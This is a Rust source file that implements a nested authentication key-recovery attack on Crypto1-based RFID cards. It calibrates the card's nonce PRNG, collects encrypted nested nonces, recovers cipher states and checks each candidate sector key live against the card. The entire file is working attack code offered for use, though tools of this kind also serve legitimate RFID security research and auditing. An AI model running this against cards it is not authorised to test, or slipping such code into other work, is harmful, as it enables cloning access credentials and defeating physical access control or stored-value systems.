//! Nested authentication attack.
//!
//! Recovers an unknown sector key from a card that already trusts us for
//! one sector. Three phases:
//!
//! 1. Calibration: sample tag nonces over repeated handshakes and take the
//!    median PRNG distance between consecutive ones. Cards feed the nonce
//!    generator from a free-running timer, so the distance per handshake is
//!    roughly constant.
//! 2. Collection: authenticate against the known sector, then issue an
//!    authentication for the target sector inside the encrypted session.
//!    The card answers with its next nonce encrypted under the target key,
//!    which leaks keystream because the nonce itself is predictable.
//! 3. Search: for each collected nonce, predict the plaintext nonce from
//!    the calibrated distance, derive the target cipher's initial keystream,
//!    run the state recovery, and live-verify every candidate key against
//!    the card. First verified key wins.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::auth::KeyType;
use crate::cipher::{prng_successor, Crypto1State};
use crate::driver::{AuthError, ClassicDriver};
use crate::recovery::{lfsr_recovery32_cancellable, nonce_distance};
use crate::transport::CardTransport;

/// Tuning knobs for the attack loop.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AttackConfig {
    /// Handshakes sampled while measuring the tag PRNG rate.
    pub calibration_rounds: usize,
    /// Minimum nonces the calibration phase must yield to proceed.
    pub min_calibration_nonces: usize,
    /// Nested handshakes attempted during collection.
    pub collection_rounds: usize,
    /// Minimum encrypted nonces required before searching.
    pub min_nonces_for_recovery: usize,
    /// How far around the median distance to search, in PRNG steps.
    pub distance_search_range: u32,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            calibration_rounds: 20,
            min_calibration_nonces: 10,
            collection_rounds: 50,
            min_nonces_for_recovery: 5,
            distance_search_range: 30,
        }
    }
}

/// One captured nested-authentication response.
#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
pub struct CollectedNonce {
    /// The target-sector nonce as it came off the air, still encrypted.
    pub encrypted_nonce: u32,
    /// Session cipher state snapshotted right before the nested request.
    pub cipher_state: Crypto1State,
    pub collected_at: DateTime<Utc>,
}

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("calibration collected {collected} nonces, need at least {needed}")]
    CalibrationFailed { collected: usize, needed: usize },
    #[error("calibration produced no usable prng distances")]
    CalibrationUnusable,
    #[error("collected {collected} nested nonces, need at least {needed}")]
    NotEnoughNonces { collected: usize, needed: usize },
    #[error("attack cancelled")]
    Cancelled,
    #[error(transparent)]
    Auth(#[from] AuthError),
}

/// PRNG distances between consecutive nonce samples.
///
/// Unreachable pairs come back as `u32::MAX` and are filtered out by the
/// caller. Fewer than two samples yield nothing.
pub fn calibrate_prng(nonces: &[u32]) -> Vec<u32> {
    if nonces.len() < 2 {
        return Vec::new();
    }
    nonces
        .windows(2)
        .map(|pair| nonce_distance(pair[0], pair[1]))
        .collect()
}

/// Drives the whole attack against one card.
pub struct NestedAttack<T: CardTransport> {
    driver: ClassicDriver<T>,
    config: AttackConfig,
    cancel: Arc<AtomicBool>,
    collected: Vec<CollectedNonce>,
}

impl<T: CardTransport> NestedAttack<T> {
    pub fn new(driver: ClassicDriver<T>) -> Self {
        Self::with_config(driver, AttackConfig::default())
    }

    pub fn with_config(driver: ClassicDriver<T>, config: AttackConfig) -> Self {
        Self {
            driver,
            config,
            cancel: Arc::new(AtomicBool::new(false)),
            collected: Vec::new(),
        }
    }

    /// Shared flag that aborts the attack when set from another thread.
    pub fn cancel_handle(&self) -> Arc<AtomicBool> {
        Arc::clone(&self.cancel)
    }

    /// Nonces captured so far, for export or offline analysis.
    pub fn collected_nonces(&self) -> &[CollectedNonce] {
        &self.collected
    }

    pub fn into_driver(self) -> ClassicDriver<T> {
        self.driver
    }

    fn cancelled(&self) -> bool {
        self.cancel.load(Ordering::Relaxed)
    }

    /// Run the full attack. `Ok(None)` means every phase completed but no
    /// candidate key verified against the card.
    pub fn recover_key(
        &mut self,
        known_key_type: KeyType,
        known_block: u8,
        known_key: u64,
        target_key_type: KeyType,
        target_block: u8,
    ) -> Result<Option<u64>, AttackError> {
        let median = self.calibrate(known_key_type, known_block)?;
        self.collect(known_key_type, known_block, known_key, target_key_type, target_block)?;
        self.search(median, target_key_type, target_block)
    }

    /// Phase 1: measure the tag PRNG advance per handshake.
    fn calibrate(&mut self, key_type: KeyType, block: u8) -> Result<u32, AttackError> {
        tracing::info!(
            rounds = self.config.calibration_rounds,
            "calibrating tag prng"
        );
        let mut nonces = Vec::with_capacity(self.config.calibration_rounds);
        for round in 0..self.config.calibration_rounds {
            if self.cancelled() {
                return Err(AttackError::Cancelled);
            }
            match self.driver.request_auth(key_type, block) {
                Ok(nt) => nonces.push(nt),
                Err(err) => {
                    tracing::warn!(round, %err, "calibration handshake failed");
                }
            }
            // Abandon the half-open handshake so the next round starts clean.
            self.driver.reconnect()?;
        }

        if nonces.len() < self.config.min_calibration_nonces {
            return Err(AttackError::CalibrationFailed {
                collected: nonces.len(),
                needed: self.config.min_calibration_nonces,
            });
        }

        let mut distances: Vec<u32> = calibrate_prng(&nonces)
            .into_iter()
            .filter(|&d| d != u32::MAX)
            .collect();
        if distances.is_empty() {
            return Err(AttackError::CalibrationUnusable);
        }
        distances.sort_unstable();
        let median = distances[distances.len() / 2];
        tracing::info!(
            samples = distances.len(),
            median_distance = median,
            "prng calibrated"
        );
        Ok(median)
    }

    /// Phase 2: capture encrypted target-sector nonces.
    fn collect(
        &mut self,
        known_key_type: KeyType,
        known_block: u8,
        known_key: u64,
        target_key_type: KeyType,
        target_block: u8,
    ) -> Result<(), AttackError> {
        tracing::info!(
            rounds = self.config.collection_rounds,
            "collecting nested nonces"
        );
        for round in 0..self.config.collection_rounds {
            if self.cancelled() {
                return Err(AttackError::Cancelled);
            }
            self.driver.reconnect()?;
            let mut state = match self.driver.authenticate(known_key_type, known_block, known_key)
            {
                Ok(state) => state,
                Err(err) => {
                    tracing::warn!(round, %err, "known-sector auth failed");
                    continue;
                }
            };
            let snapshot = state;
            match self
                .driver
                .nested_auth(&mut state, target_key_type, target_block)
            {
                Ok(encrypted_nonce) => {
                    self.collected.push(CollectedNonce {
                        encrypted_nonce,
                        cipher_state: snapshot,
                        collected_at: Utc::now(),
                    });
                    if (round + 1) % 10 == 0 {
                        tracing::debug!(
                            collected = self.collected.len(),
                            round = round + 1,
                            "collection progress"
                        );
                    }
                }
                Err(err) => {
                    tracing::warn!(round, %err, "nested handshake failed");
                }
            }
        }

        if self.collected.len() < self.config.min_nonces_for_recovery {
            return Err(AttackError::NotEnoughNonces {
                collected: self.collected.len(),
                needed: self.config.min_nonces_for_recovery,
            });
        }
        tracing::info!(collected = self.collected.len(), "collection done");
        Ok(())
    }

    /// Phase 3: recover candidate states per nonce and verify keys live.
    fn search(
        &mut self,
        median: u32,
        target_key_type: KeyType,
        target_block: u8,
    ) -> Result<Option<u64>, AttackError> {
        let min_dist = median.saturating_sub(self.config.distance_search_range);
        let max_dist = median + self.config.distance_search_range;
        let uid = self.driver.uid();
        let nonces = self.collected.clone();
        tracing::info!(
            nonces = nonces.len(),
            min_dist,
            max_dist,
            "searching candidate keys"
        );

        for (index, nonce) in nonces.iter().enumerate() {
            let mut session = nonce.cipher_state;
            let keystream = session.lfsr_word(0, false);
            let candidate_nt = nonce.encrypted_nonce ^ keystream;

            for dist in min_dist..=max_dist {
                if self.cancelled() {
                    return Err(AttackError::Cancelled);
                }
                let predicted_nt = prng_successor(candidate_nt, dist);
                let target_keystream = nonce.encrypted_nonce ^ predicted_nt;
                let input = uid ^ predicted_nt;
                let candidates =
                    lfsr_recovery32_cancellable(target_keystream, input, &self.cancel);
                tracing::debug!(
                    nonce = index,
                    dist,
                    candidates = candidates.len(),
                    "recovered candidate states"
                );
                for candidate in candidates {
                    if self.cancelled() {
                        return Err(AttackError::Cancelled);
                    }
                    let mut rolled = candidate;
                    rolled.lfsr_rollback_word(input, false);
                    let key = rolled.get_key();
                    if self.verify_key(target_key_type, target_block, key)? {
                        tracing::info!("verified key {key:012x} against the card");
                        return Ok(Some(key));
                    }
                }
            }
        }
        tracing::info!("search exhausted without a verified key");
        Ok(None)
    }

    /// Try a key against the card with a clean handshake either side.
    pub fn verify_key(
        &mut self,
        key_type: KeyType,
        block: u8,
        key: u64,
    ) -> Result<bool, AttackError> {
        self.driver.reconnect()?;
        let verified = self.driver.authenticate(key_type, block, key).is_ok();
        self.driver.reconnect()?;
        Ok(verified)
    }
}
